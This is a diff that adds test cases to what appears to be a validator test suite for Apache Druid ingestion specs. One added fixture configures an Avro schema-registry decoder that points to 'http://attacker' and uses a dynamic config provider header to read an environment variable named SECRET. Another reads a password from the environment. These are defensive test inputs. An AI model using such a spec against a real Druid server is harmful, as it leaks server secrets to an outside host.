@@ -67,6 +67,27 @@ describe('a rawSpec', () => {
       'spec.rawSpec.spec.ioConfig.consumerProperties[druid.dynamic.config.provider]',
     ],
     [
+      'the environment of Druid for a schema registry',
+      resource(
+        withIo({
+          inputFormat: {
+            type: 'avro_stream',
+            avroBytesDecoder: {
+              type: 'schema_registry',
+              url: 'http://attacker',
+              headers: { 'druid.dynamic.config.provider': { type: 'environment', variables: { x: 'SECRET' } } },
+            },
+          },
+        }),
+      ),
+      'spec.rawSpec.spec.ioConfig.inputFormat.avroBytesDecoder.headers[druid.dynamic.config.provider]',
+    ],
+    [
+      'a password from the environment of Druid',
+      resource(withIo({ inputFormat: { type: 'x', password: { type: 'environment', variable: 'SECRET' } } })),
+      'spec.rawSpec.spec.ioConfig.inputFormat.password.type',
+    ],
+    [
       'code in a transform',
       resource({
         ...raw,
